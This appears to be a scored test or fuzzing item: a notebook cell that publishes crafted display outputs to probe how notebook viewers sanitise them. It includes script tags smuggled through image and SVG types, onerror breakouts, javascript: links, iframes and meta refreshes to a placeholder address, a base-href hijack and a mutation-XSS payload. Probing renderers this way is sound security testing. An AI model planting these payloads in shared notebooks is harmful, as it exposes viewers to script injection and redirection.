# why: pictures that are pages, pages that load, links that run, styles that tell
# score: 4

# %% payload
import base64

page = "<script>alert(1)</script>"
show = get_ipython().display_pub.publish
show({"image/png": base64.b64encode(page.encode()).decode()})
show({"image/png": '" onerror="alert(1)'})
show({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{page}</svg>"})
show({"application/javascript": "alert(1)", "text/plain": "</pre><script>alert(1)</script>"})
show({"text/html": "<iframe src='http://192.0.2.1'></iframe><meta http-equiv=refresh content='0;url=//192.0.2.1'>"})
show({"text/html": "<a href='javascript:alert(1)'>x</a><form action='//192.0.2.1'><button>x</button></form>"})
show({"text/html": "<p style='background:url(//192.0.2.1)' onclick='alert(1)'>x</p><base href='//192.0.2.1'>"})
show({"text/html": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>"})
